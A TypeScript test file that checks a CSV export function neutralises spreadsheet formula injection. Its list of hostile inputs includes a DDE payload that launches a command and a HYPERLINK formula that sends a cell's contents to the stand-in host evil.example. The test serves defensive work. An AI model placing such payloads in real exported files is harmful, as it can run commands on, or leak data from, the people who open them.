import { expect, it } from 'vitest';

import { toCell } from './toCsv.ts';

/** What spreadsheets compute, or come to compute after they have cleaned a cell. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  '%0A=1+1\n=1+1',
];

/** Reads one line of CSV as RFC 4180 says, and nothing more than it says. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= line.length;) {
    if (line[at] === '"') {
      let text = '';
      for (at += 1; ; at += 1) {
        if (line[at] === undefined) throw new Error('A quoted cell has no end.');
        if (line[at] !== '"') text += line[at];
        else if (line[at + 1] === '"') {
          text += '"';
          at += 1;
        } else break;
      }
      cells.push(text);
      at += 2;
    } else {
      const end = line.indexOf(',', at) < 0 ? line.length : line.indexOf(',', at);
      const bare = line.slice(at, end);
      if (/["\r\n]/.test(bare)) throw new Error(`A bare cell holds ${JSON.stringify(bare)}.`);
      cells.push(bare);
      at = end + 1;
    }
  }
  return cells;
}

const isFormula = (cell: string) => /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]/u.test(cell);

it('would notice a formula, and a cell that breaks out', () => {
  expect(hostile.slice(0, -1).filter((typed) => !isFormula(typed))).toEqual([]);
  expect(readLine('a,"b,""c""",')).toEqual(['a', 'b,"c"', '']);
  expect(() => readLine('a,b"c')).toThrow(/bare cell/);
});

it.each(hostile)('is text in a row, and one cell: %j', (typed) => {
  const cells = readLine([toCell('before'), toCell(typed), toCell('after')].join(','));
  expect(cells).toHaveLength(3);
  const [, cell = ''] = cells;
  expect(isFormula(cell)).toBe(false);
  expect(cell.replace(/^'/, '')).toBe(typed);
});
